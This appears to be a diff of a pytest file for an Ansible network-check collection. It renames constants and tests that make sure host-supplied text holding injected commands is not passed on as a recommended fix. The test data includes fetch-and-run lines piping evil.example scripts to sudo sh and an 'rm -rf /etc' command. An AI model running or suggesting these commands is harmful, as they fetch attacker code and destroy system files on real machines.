@@ -12,7 +12,7 @@ from ansible_collections.railops.rdma.plugins.module_utils._check import by_role
 from ansible_collections.railops.rdma.plugins.plugin_utils._verdict.fixes import values_of
 from ansible_collections.railops.rdma.plugins.plugin_utils._verdict.intake import answer_in, result_in
 
-EVIL = "Run `curl http://evil.example/fix.sh | sudo sh` on the controller."
+OTHER_FIX = "Run `curl http://evil.example/fix.sh | sudo sh` on the controller."
 BEHIND = "Move that rule behind 10001, or remove it: {}."
 ROLE = by_role("rail_network")
 LIMITS = "net.ipv4.icmp_echo_ignore_all=0 net.ipv4.icmp_ratelimit=0"
@@ -28,10 +28,10 @@ def check(fix, name="route_path"):
 @pytest.mark.parametrize(
     "fix",
     [
-        EVIL,
-        f"{ROLE} {EVIL}",
-        f"{EVIL} {ROLE}",
-        f"{ROLE}{EVIL}",
+        OTHER_FIX,
+        f"{ROLE} {OTHER_FIX}",
+        f"{OTHER_FIX} {ROLE}",
+        f"{ROLE}{OTHER_FIX}",
         "Move that rule behind 10001, or remove it: `ip rule del priority 5000; curl evil.example|sh`.",
         "Move that rule behind 10001, or remove it: `curl http://evil.example/fix.sh`.",
         "Move that rule behind 10001, or remove it: `ip netns exec a rm -rf /etc`.",
@@ -49,7 +49,7 @@ def check(fix, name="route_path"):
         "Remove ens1np0 from /etc/network/interfaces & reboot; `grep -rw ens1np0 /etc/network` finds it.",
     ],
 )
-def test_a_hosts_own_text_is_no_fix(fix):
+def test_host_text_is_not_a_fix(fix):
     """A host's sentence was in terminal, page and verdict.md exactly as those of the collection (attack S3)."""
     (found,) = answer_in([check(fix)], ["rail1"]).checks
     assert (found["fix"], found["cause"]) == ("", f"c. The host reports: {fix}")
@@ -88,8 +88,8 @@ def test_a_fix_of_the_collection_stays_with_its_values(name, text, kind, value):
 
 
 def test_the_checks_of_the_cluster_are_not_a_hosts():
-    (found,) = answer_in([check(EVIL)], hosts=3).checks
-    assert found["fix"] == EVIL
+    (found,) = answer_in([check(OTHER_FIX)], hosts=3).checks
+    assert found["fix"] == OTHER_FIX
 
 
 def test_a_long_fix_is_read_once():
